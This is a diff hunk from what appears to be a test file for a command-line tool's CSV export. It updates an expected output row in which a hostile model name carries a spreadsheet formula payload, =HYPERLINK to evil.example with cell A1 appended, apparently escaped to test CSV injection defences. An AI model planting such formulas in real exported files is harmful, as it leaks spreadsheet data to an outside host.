@@ -168,7 +168,7 @@ CASES = [
     (
         "list --format csv",
         ["list", "models", "--add", "{hostile}", "--format", "csv"],
-        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Llama 3"")",test,\'@SUM(1+1),',
+        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Llama 3"")",test,test,\'@SUM(1+1),',
         "out",
         0,
     ),
